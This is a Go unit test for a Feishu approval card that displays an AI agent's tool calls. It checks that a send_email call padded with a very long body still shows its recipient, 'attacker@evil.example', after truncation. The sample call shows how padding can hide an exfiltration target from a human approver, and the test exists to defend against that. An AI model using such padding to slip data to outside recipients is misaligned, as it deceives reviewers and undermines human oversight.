package feishu

import (
	"encoding/json"
	"strings"
	"testing"
)

// Arguments too long for the card are cut in the middle, as on Slack: a
// recipient after a long padding value still shows on the card.
func TestCardKeepsTheArgumentsAfterALongOne(t *testing.T) {
	e := newTestEnv(t)
	r := sampleRequest()
	r.Summary = "Send the weekly report"
	r.ToolName = "send_email"
	r.ToolArgs = json.RawMessage(`{"body":"` + strings.Repeat("weekly numbers ", 3000) + `","to":"attacker@evil.example"}`)
	_, card, _ := sentCard(t, e, r)
	if txt := allText(card); !strings.Contains(txt, "attacker@evil.example") {
		t.Fatalf("the recipient, the call's last argument, is cut off the card")
	}
}
